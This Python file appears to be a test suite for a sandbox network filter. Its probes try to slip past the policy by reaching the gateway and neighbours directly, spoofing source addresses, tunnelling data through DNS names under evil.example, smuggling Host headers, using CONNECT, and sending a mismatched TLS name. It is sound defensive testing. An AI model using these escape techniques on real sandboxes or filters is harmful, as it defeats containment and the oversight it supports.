"""Attempts to reach what a policy doesn't allow: addresses, other protocols, other names, forged sources.

Standard library only; runs inside. Judges by what comes back from the other side: in the gateway every TCP connection is
accepted, so that a connect proves nothing. `ASKED["net"]` names the one permitted name and where things are.
"""

from __future__ import annotations

import socket
import ssl
import struct
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path

from common import ASKED, attack

PROBE = b"GET /direct HTTP/1.0\r\n\r\n"
QUICKLY = 1.5
RESOLVER = "198.18.0.1"


def net(key: str) -> list[str]:
    return list(ASKED["net"][key])


def gateway() -> int:
    """Our gateway's address, as a number."""
    routes = [line.split() for line in Path("/proc/net/route").read_text().splitlines()[1:]]
    return next(struct.unpack("!I", bytes.fromhex(route[2])[::-1])[0] for route in routes if route[1] == "0" * 8)


def dotted(number: int) -> str:
    return socket.inet_ntoa(struct.pack("!I", number))


def neighbours() -> list[str]:
    """The addresses of the leases before and after ours, on both sides of their links."""
    return [dotted(gateway() + distance) for distance in (-2, -1, 2, 3)]


def addresses() -> list[str]:
    return [dotted(gateway()), *neighbours(), *net("addresses")]


def answer(address: str, port: int, data: bytes, seconds: float = 5.0) -> bytes:
    """What comes back over TCP."""
    with socket.create_connection((address, port), timeout=seconds) as connection:
        connection.sendall(data)
        said = b""
        with suppress(TimeoutError):
            while len(said) < 4096 and (piece := connection.recv(4096)):
                said += piece
    return said


def is_success(said: bytes) -> bool:
    """An answer of somebody else's: a refusal of the filter's is marked as such."""
    return bool(said) and b"x-hutch-denied" not in said.lower() and not said.startswith((b"HTTP/1.1 4", b"HTTP/1.1 5"))


def at_once(attempts: dict[str, Callable[[], bool]]) -> str:
    """Make all attempts side by side, since most of them end by waiting; the names of those that got something."""

    def got(attempt: Callable[[], bool]) -> bool:
        with suppress(OSError):
            return attempt()
        return False

    with ThreadPoolExecutor(24) as threads:
        results = threads.map(got, attempts.values())
    return ", ".join(name for name, result in zip(attempts, results, strict=True) if result)


def allowed() -> tuple[str, str]:
    name = net("allowed")[0]
    return name, socket.gethostbyname(name)


@attack
def positive_control() -> str:
    """The permitted name answers; without this nothing else here means anything."""
    name, address = allowed()
    said = answer(address, 80, f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
    return "" if b" 200 " in said.split(b"\r\n")[0] else f"{name} did not answer: {said[:100]!r}"


@attack
def direct_addresses() -> str:
    """TCP to the gateway, neighbours, the host, metadata services, the internet, unknown synthetic addresses."""
    attempts: dict[str, Callable[[], bool]] = {}
    for address in addresses():
        for port in (22, 53, 80, 443, 8080):
            attempts[f"{address}:{port}"] = lambda a=address, p=port: is_success(answer(a, p, PROBE, QUICKLY))
    return at_once(attempts)


def datagram(address: str, port: int, data: bytes, *options: tuple[int, int, int | bytes]) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for level, name, value in options:
            sender.setsockopt(level, name, value)
        sender.settimeout(0.3)
        sender.connect((address, port))
        sender.send(data)
        return sender.recv(4096)


@attack
def datagrams() -> str:
    """UDP that isn't DNS, to all of these; broadcast and multicast. A neighbour that listens reports for itself."""
    attempts: dict[str, Callable[[], bool]] = {}
    for address in (*addresses(), "224.0.0.251", "255.255.255.255"):
        for port in (123, 443, 9999):
            attempts[f"{address}:{port}"] = lambda a=address, p=port: bool(datagram(a, p, b"escape", (1, 6, 1)))
    return at_once(attempts)


@attack
def echo_requests() -> str:
    """ICMP echo, which sockets without privileges may send."""

    def answers(address: str) -> bool:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as ping:
            ping.settimeout(0.5)
            ping.connect((address, 0))
            ping.send(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"escape")
            return ping.recv(100)[:1] == b"\0"

    return at_once({a: lambda a=a: answers(a) for a in addresses() if not a.startswith("127.")})


@attack
def ipv6() -> str:
    found = []
    with suppress(OSError):
        lines = Path("/proc/net/if_inet6").read_text().splitlines()
        found += [address for line in lines if (address := line.split()[0]) != "0" * 31 + "1"]
    for address in ("2001:4860:4860::8888", "fe80::1%eth0", "::ffff:" + net("addresses")[-1]):
        with suppress(OSError), socket.create_connection((address, 80), timeout=QUICKLY) as connection:
            connection.sendall(PROBE)
            if is_success(connection.recv(100)):
                found.append(address)
    return ", ".join(found)


@attack
def forged_sources() -> str:
    """A neighbour's address, or the gateway's, as our own."""
    found = []
    for source in (*neighbours(), dotted(gateway())):
        options: dict[str, Callable[[socket.socket], None]] = {
            "transparent": lambda sock: sock.setsockopt(socket.SOL_IP, 19, 1),
            "freebind": lambda sock: sock.setsockopt(socket.SOL_IP, 15, 1),
            "freebind, on eth0": lambda sock: (
                sock.setsockopt(socket.SOL_IP, 15, 1),
                sock.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0"),
                sock.setsockopt(socket.SOL_SOCKET, 5, 1),
            )[0],
        }
        for name, prepare in options.items():
            with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                prepare(sock)
                sock.bind((source, 0))
                sock.settimeout(0.3)
                sock.sendto(question("forged.example"), (dotted(gateway()), 53))
                sock.recv(512)
                found.append(f"{source} ({name})")
        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            info = struct.pack("=I4s4s", 0, socket.inet_aton(source), bytes(4))
            sock.sendmsg([question("forged.example")], [(socket.SOL_IP, 8, info)], 0, (dotted(gateway()), 53))
            found.append(f"{source} (packet information)")
    return ", ".join(found)


def question(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


@attack
def questions_that_carry_data() -> str:
    """Names that say something to whoever answers for them; answers that say something back; DNS over TCP."""
    found = []
    for name in (f"{'x' * 60}.{'y' * 60}.evil.example", "evil.example", f"{net('allowed')[0]}.evil.example"):
        said = datagram(RESOLVER, 53, question(name))
        if len(said) != len(question(name)) + 16 or said[-4:-2] not in (b"\xc6\x12", b"\xc6\x13"):  # 198.18.0.0/15
            found.append(f"{name[-20:]} was answered with {said!r}, which is more than an address of the filter's own")
        for kind in (16, 15, 33, 65):
            if (said := datagram(RESOLVER, 53, question(name, kind)))[3] & 15 != 5:  # REFUSED
                found.append(f"{name[-20:]}, type {kind}, was answered with code {said[3] & 15}")
    for kind in (16, 15, 33, 28, 255, 65):
        said = datagram(RESOLVER, 53, question(net("allowed")[0], kind))
        if struct.unpack("!H", said[6:8])[0]:
            found.append(f"an answer of type {kind}")
    asked = question("evil.example")
    with suppress(OSError):
        if answer(RESOLVER, 53, struct.pack("!H", len(asked)) + asked, QUICKLY):
            found.append("TCP")
    return ", ".join(found)


@attack
def other_names() -> str:
    """Another name than the one that was resolved: in Host, in the target, in a second one, in CONNECT, in TLS."""
    name, address = allowed()
    evil = "evil.example"
    requests = {
        "Host": f"GET / HTTP/1.1\r\nHost: {evil}\r\n\r\n",
        "Host with a port": f"GET / HTTP/1.1\r\nHost: {evil}:80\r\n\r\n",
        "suffix": f"GET / HTTP/1.1\r\nHost: x{name}\r\n\r\n",
        "two Hosts": f"GET / HTTP/1.1\r\nHost: {name}\r\nHost: {evil}\r\n\r\n",
        "folded Host": f"GET / HTTP/1.1\r\nHost: {name}\r\n {evil}\r\n\r\n",
        "null byte": f"GET / HTTP/1.1\r\nHost: {evil}\0.{name}\r\n\r\n",
        "user": f"GET / HTTP/1.1\r\nHost: {name}@{evil}\r\n\r\n",
        "absolute target": f"GET http://{evil}/ HTTP/1.1\r\nHost: {name}\r\n\r\n",
        "CONNECT": f"CONNECT {evil}:80 HTTP/1.1\r\nHost: {evil}\r\n\r\nGET / HTTP/1.1\r\nHost: {evil}\r\n\r\n",
        "no Host": "GET / HTTP/1.0\r\n\r\n",
        "raw bytes": "SSH-2.0-escape\r\n",
    }
    attempts: dict[str, Callable[[], bool]] = {
        n: lambda request=request: is_success(answer(address, 80, request.encode(), 3.0))
        for n, request in requests.items()
    }
    second = f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\nGET / HTTP/1.1\r\nHost: {evil}\r\n\r\n"
    attempts["second request"] = lambda: answer(address, 80, second.encode(), 3.0).count(b" 200 ") > 1
    attempts["another name in TLS"] = lambda: _handshake(address, evil)
    attempts["no name in TLS"] = lambda: _handshake(address, None)
    return at_once(attempts)


def _handshake(address: str, name: str | None) -> bool:
    """TLS as if to another server."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((address, 443), timeout=3) as plain:
        context.wrap_socket(plain, server_hostname=name).close()
    return True


@attack
def ports_of_the_gateway_by_itself() -> str:
    """Usual ports of our own gateway address: none is a service."""
    ports = (1, 7, 21, 22, 25, 53, 67, 111, 631, 2049, 3128, 5000, 8000)
    return at_once({f"{p}": lambda p=p: is_success(answer(dotted(gateway()), p, PROBE, QUICKLY)) for p in ports})
